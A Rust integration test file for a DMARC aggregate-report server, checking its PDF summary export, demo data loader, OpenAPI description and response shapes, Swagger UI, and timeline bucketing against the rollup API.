fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// The PDF at `path` and the text of all its pages, read back with lopdf.
async fn pdf_text(server: &Server, auth: &Auth, path: &str) -> String {
    let request = server.http.get(format!("{}{path}", server.base));
    let response = authed(request, auth).send().await.expect("send");
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    assert_eq!(response.headers()["content-type"], "application/pdf");
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .expect("ASCII")
            .contains("dmarc-summary.pdf")
    );
    let bytes = response.bytes().await.expect("body");
    let doc = lopdf::Document::load_mem(&bytes).expect("the PDF opens");
    let pages: Vec<u32> = doc.get_pages().keys().copied().collect();
    assert!(pages.len() >= 2, "{} pages", pages.len());
    doc.extract_text(&pages).expect("text")
}

#[tokio::test]
async fn the_pdf_summary_holds_the_expected_figures() {
    let server = sqlite_server().await;
    server.user("pdf@example.com", Role::Analyst).await;
    let access = Auth::Bearer(server.tokens("pdf@example.com").await.0);
    let dir = tempfile::tempdir().unwrap();
    let mut files = corpus_files()[..60].to_vec();
    for (org, id, count) in [("Яндекс Почта", "ru-1", 900), ("网易 NetEase", "cn-1", 40)]
    {
        let path = dir.path().join(format!("{id}.xml"));
        let xml = NON_LATIN
            .replace("{org}", org)
            .replace("{id}", id)
            .replace("{count}", &count.to_string());
        std::fs::write(&path, xml).unwrap();
        files.push(path);
    }
    let upload = server.upload(&access, &files).await;
    assert_eq!(upload.status, StatusCode::OK, "{}", upload.body);

    let text = pdf_text(&server, &access, "/api/export/report/pdf").await;
    let get = |path: &'static str| server.call(Method::GET, path, &access, None);
    let summary = get("/api/rollup/summary").await.body;
    let figure = |v: &Value| thousands(v.as_u64().unwrap());
    let messages = summary["messages"].as_u64().unwrap();
    let pass = summary["dmarc_pass"].as_u64().unwrap();
    for expected in [
        "DMARC aggregate report summary",
        "Period (UTC): all time",
        "Filters: none",
        &figure(&summary["messages"]),
        &format!("{:.1} %", pass as f64 * 100.0 / messages as f64),
        &figure(&summary["dmarc_fail"]),
        &figure(&summary["reports"]),
        &figure(&summary["domains"]),
        &figure(&summary["organizations"]),
        "Яндекс Почта",
        "?? NetEase",
        "198.51.100.77",
        "page 2 of 2",
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
    // The top row of each table, with its figures.
    let domain = &get("/api/rollup/by-domain").await.body[0];
    let source = &get("/api/rollup/sources?limit=1").await.body["items"][0];
    let disposition = get("/api/rollup/disposition").await.body;
    for expected in [
        domain["key"].as_str().unwrap().to_owned(),
        figure(&domain["messages"]),
        source["source_ip"].as_str().unwrap().to_owned(),
        figure(&source["messages"]),
        format!("{} · ", figure(&disposition["quarantine"])),
    ] {
        assert!(text.contains(&expected), "{expected:?} missing");
    }

    // Filters narrow every figure and are printed.
    let text = pdf_text(
        &server,
        &access,
        "/api/export/report/pdf?org=%D0%AF%D0%BD%D0%B4%D0%B5%D0%BA%D1%81%20%D0%9F%D0%BE%D1%87%D1%82%D0%B0&from=2024-05-01&to=2024-05-01",
    )
    .await;
    for expected in [
        "Period (UTC): 2024-05-01 to 2024-05-01",
        "Filters: organisation = Яндекс Почта",
        "900 · 100.0 %",
        "0.0 %",
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
    assert!(!text.contains("NetEase"), "{text}");
}

#[tokio::test]
async fn the_demo_loads_sample_reports_and_an_admin() {
    let server = sqlite_server().await;
    let demo = dmarc_server::demo::load(&server.store, 4)
        .await
        .expect("demo");
    assert!(demo.reports > 100, "{} reports", demo.reports);
    let login = server.login(demo.email, &demo.password).await;
    assert_eq!(login.status, StatusCode::OK);
    let access = Auth::Bearer(login.body["access_token"].as_str().unwrap().to_owned());
    let summary = server
        .call(Method::GET, "/api/rollup/summary", &access, None)
        .await;
    assert_eq!(summary.body["reports"], demo.reports);
    let me = server.call(Method::GET, "/users/me", &access, None).await;
    assert_eq!(me.body["role"], "admin");
    // A second load on the same database refuses (the admin exists), storing nothing twice.
    assert!(dmarc_server::demo::load(&server.store, 4).await.is_err());
    let again = server
        .call(Method::GET, "/api/rollup/summary", &access, None)
        .await;
    assert_eq!(again.body["reports"], demo.reports);
}

/// The schema `schema` stands for: a reference resolved, the schemas of an `allOf` merged,
/// and an optional one (`oneOf` with `null`) unwrapped.
fn resolved(schema: &Value, doc: &Value, at: &str) -> Value {
    if let Some(reference) = schema.get("$ref").and_then(Value::as_str) {
        let name = reference.rsplit('/').next().expect("a reference name");
        let target = &doc["components"]["schemas"][name];
        assert!(!target.is_null(), "{at}: no schema {name}");
        return resolved(target, doc, at);
    }
    if let Some(parts) = schema.get("allOf").and_then(Value::as_array) {
        let mut merged = serde_json::json!({ "type": "object", "properties": {}, "required": [] });
        for part in parts {
            let part = resolved(part, doc, at);
            if let Some(props) = part.get("properties").and_then(Value::as_object) {
                for (k, v) in props {
                    merged["properties"][k] = v.clone();
                }
            }
            if let Some(required) = part.get("required").and_then(Value::as_array) {
                merged["required"]
                    .as_array_mut()
                    .expect("an array")
                    .extend(required.iter().cloned());
            }
        }
        return merged;
    }
    if let Some(choices) = schema.get("oneOf").and_then(Value::as_array) {
        let not_null: Vec<&Value> = choices.iter().filter(|c| c["type"] != "null").collect();
        if let [only] = not_null.as_slice() {
            return resolved(only, doc, at);
        }
    }
    schema.clone()
}

/// Checks that `value` has exactly the properties `schema` documents (recursively): none
/// undocumented, every required one present.
fn conforms(value: &Value, schema: &Value, doc: &Value, at: &str, problems: &mut Vec<String>) {
    if value.is_null() {
        return;
    }
    let schema = resolved(schema, doc, at);
    if let (Some(props), Some(object)) = (
        schema.get("properties").and_then(Value::as_object),
        value.as_object(),
    ) {
        let documented: HashSet<&String> = props.keys().collect();
        let actual: HashSet<&String> = object.keys().collect();
        let required: HashSet<&str> = schema
            .get("required")
            .and_then(Value::as_array)
            .map(|r| r.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default();
        let undocumented: Vec<&&String> = actual.difference(&documented).collect();
        let missing: Vec<&&str> = required
            .iter()
            .filter(|k| !object.contains_key(**k))
            .collect();
        if !undocumented.is_empty() || !missing.is_empty() {
            problems.push(format!(
                "{at}: undocumented {undocumented:?}, missing required {missing:?}"
            ));
        }
        for (key, sub) in props {
            if let Some(v) = object.get(key) {
                conforms(v, sub, doc, &format!("{at}.{key}"), problems);
            }
        }
    }
    if let (Some(items), Some(array)) = (schema.get("items"), value.as_array()) {
        for (i, item) in array.iter().take(3).enumerate() {
            conforms(item, items, doc, &format!("{at}[{i}]"), problems);
        }
    }
}

#[tokio::test]
async fn the_openapi_description_matches_the_router_and_the_answers() {
    // Routes are registered with their operations (utoipa-axum), so the description lists
    // every route; here every operation it lists is answered by a route (never 404 or
    // 405), and a path it does not list is not routed.
    let server = sqlite_server().await;
    let doc = server
        .call(Method::GET, "/openapi.json", &Auth::None, None)
        .await;
    assert_eq!(doc.status, StatusCode::OK);
    assert_eq!(doc.body["openapi"], "3.1.0");
    let mut operations = Vec::new();
    for (path, item) in doc.body["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            let success = operation["responses"]
                .as_object()
                .unwrap()
                .keys()
                .find(|s| s.starts_with('2'))
                .unwrap_or_else(|| panic!("{method} {path}: no success answer"))
                .parse::<u16>()
                .unwrap();
            operations.push((method.clone(), path.clone(), success));
        }
    }
    assert_eq!(operations.len(), 63, "{operations:?}");
    for (method, path, _) in &operations {
        let method = Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
        let got = server
            .call(
                method.clone(),
                &path
                    .replace("{id}", "1")
                    .replace("{channel}", "teams")
                    .replace("{ip}", "8.8.8.8"),
                &Auth::None,
                None,
            )
            .await;
        assert!(
            ![StatusCode::NOT_FOUND, StatusCode::METHOD_NOT_ALLOWED].contains(&got.status),
            "{method} {path}: {}",
            got.status
        );
    }
    let unlisted = server
        .call(Method::GET, "/api/rollup/unlisted", &Auth::None, None)
        .await;
    assert_eq!(unlisted.status, StatusCode::NOT_FOUND);

    // Answers have the documented shape.
    server.user("doc@example.com", Role::Admin).await;
    let access = Auth::Bearer(server.tokens("doc@example.com").await.0);
    server.upload(&access, &corpus_files()[..40]).await;
    let report = server
        .call(Method::GET, "/api/reports?limit=1", &access, None)
        .await;
    let id = report.body["items"][0]["id"].as_i64().unwrap();
    let mut problems = Vec::new();
    // A task, whose answer is checked too.
    let task = server
        .call(
            Method::POST,
            "/tasks/trigger/process-reports",
            &access,
            None,
        )
        .await;
    assert_eq!(task.status, StatusCode::ACCEPTED, "{}", task.body);
    let task_schema = &doc.body["paths"]["/tasks/trigger/process-reports"]["post"]["responses"]["202"]
        ["content"]["application/json"]["schema"];
    conforms(&task.body, task_schema, &doc.body, "trigger", &mut problems);
    let task_id = task.body["task_id"].as_i64().unwrap();
    // An alert: the corpus's reports are years old, so every domain misses its reports.
    let rule = server
        .call(
            Method::POST,
            "/alerts/rules",
            &access,
            Some(
                json!({"name": "silent", "kind": "missing_reports", "severity": "info",
                        "params": {"hours": 1}, "channels": []}),
            ),
        )
        .await;
    assert_eq!(rule.status, StatusCode::CREATED, "{}", rule.body);
    let (_, recorded) = dmarc_server::alerts::evaluate_all(&server.store, dmarc_store::unix_now())
        .await
        .unwrap();
    let alert_id = recorded[0].1.created[0].id;
    for (_, template, status) in operations.iter().filter(|(m, _, _)| m == "get") {
        let id = if template.starts_with("/tasks/") {
            task_id
        } else if template.starts_with("/alerts/") {
            alert_id
        } else {
            id
        };
        let path = template
            .replace("{id}", &id.to_string())
            .replace("{ip}", "8.8.8.8");
        let got = server.call(Method::GET, &path, &access, None).await;
        assert_eq!(got.status.as_u16(), *status, "{path}: {}", got.body);
        let schema = &doc.body["paths"][template]["get"]["responses"][status.to_string()]["content"]
            ["application/json"]["schema"];
        if !schema.is_null() {
            conforms(&got.body, schema, &doc.body, &path, &mut problems);
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // Swagger UI is served from the binary.
    let page = server
        .http
        .get(format!("{}/docs/", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    assert!(page.text().await.unwrap().contains("swagger"));
    let bundle = server
        .http
        .get(format!("{}/docs/swagger-ui-bundle.js", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(bundle.status(), StatusCode::OK);
}

#[tokio::test]
async fn timelines_come_in_buckets_that_keep_them_small() {
    let server = sqlite_server().await;
    let demo = dmarc_server::demo::load(&server.store, 4)
        .await
        .expect("demo");
    let login = server.login(demo.email, &demo.password).await;
    let access = Auth::Bearer(login.body["access_token"].as_str().unwrap().to_owned());
    let get = |path: &'static str| server.call(Method::GET, path, &access, None);
    let messages = get("/api/rollup/summary").await.body["messages"]
        .as_u64()
        .unwrap();
    let total = |points: &Value| -> u64 {
        points
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["messages"].as_u64().unwrap())
            .sum()
    };
    // All time (the samples span decades): a few hundred points at most, every message.
    let (status, body) = server.get_bytes("/api/rollup/timeline", &access).await;
    assert_eq!(status, StatusCode::OK);
    let all: Value = serde_json::from_slice(&body).unwrap();
    assert!(
        all.as_array().unwrap().len() <= 400,
        "{} points",
        all.as_array().unwrap().len()
    );
    assert!(body.len() < 64 * 1024, "{} bytes", body.len());
    assert_eq!(total(&all), messages);
    for bucket in ["day", "week", "month"] {
        let path = format!("/api/rollup/timeline?bucket={bucket}");
        let points = server.call(Method::GET, &path, &access, None).await;
        assert_eq!(total(&points.body), messages, "{bucket}");
    }
    // Within a year (auto: days) the points are consecutive days; within two years, weeks
    // from Mondays (1970-01-05 was one), consecutive too.
    let starts = |points: &Value| -> Vec<i64> {
        points
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["day_start"].as_i64().unwrap() / 86_400)
            .collect()
    };
    let year = starts(
        &get("/api/rollup/timeline?from=2024-01-01&to=2024-12-31")
            .await
            .body,
    );
    assert!(
        year.len() > 7 && year.windows(2).all(|w| w[1] - w[0] == 1),
        "{year:?}"
    );
    let weeks = starts(
        &get("/api/rollup/timeline?from=2023-01-01&to=2024-12-31")
            .await
            .body,
    );
    assert!(
        weeks.len() > 7 && weeks.windows(2).all(|w| w[1] - w[0] == 7),
        "{weeks:?}"
    );
    assert!(
        weeks.iter().all(|d| (d - 4).rem_euclid(7) == 0),
        "{weeks:?}"
    );
    // The trend has one point per bucket, and a window of buckets.
    let trend = get("/api/rollup/failure-trend?bucket=month&window=3").await;
    let months = get("/api/rollup/timeline?bucket=month").await;
    assert_eq!(
        trend.body.as_array().unwrap().len(),
        months.body.as_array().unwrap().len()
    );
    let wrong = get("/api/rollup/timeline?bucket=hour").await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    assert!(
        wrong.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("day, week, month or auto")
    );
}
